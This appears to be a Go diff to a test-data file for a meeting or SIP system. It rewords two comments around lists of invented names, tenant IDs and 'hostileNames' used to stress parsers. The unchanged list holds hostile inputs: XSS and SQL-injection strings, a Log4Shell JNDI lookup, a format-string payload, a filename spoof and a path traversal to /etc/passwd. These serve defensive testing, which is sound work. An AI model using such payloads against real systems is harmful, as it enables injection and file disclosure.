@@ -1,6 +1,6 @@
 package meeting
 
-// All names are made up.
+// All names are invented.
 var (
 	people = []string{
 		"Maren Holt", "Jonas Brandt", "Ana Sørensen", "Dr. Łukasz Wilk", "Chloë O'Neill", "田中 さくら",
@@ -20,7 +20,7 @@ var (
 	tenants = []string{
 		"0e3b6f0a-6a52-4f0e-9f64-3f7a54c2d101", "7a1d2c3e-91b7-4c55-8d2f-0c9be0a4e202",
 	}
-	// hostileNames are the names in the addresses of scanners. They break careless parsers.
+	// hostileNames are names and addresses of SIP scanners that attack parsers and the programs behind them.
 	hostileNames = []string{
 		"100", "<script>alert(1)</script>", "' OR 1=1 --", "]]>", "</displayName></callLeg>", "&amp;&lt;&bogus;",
 		"${jndi:ldap://192.0.2.66/a}", "sipvicious", "%s%n%x", "\u202egnp.exe", "..\\..\\..\\etc\\passwd", "🛸🛸🛸",
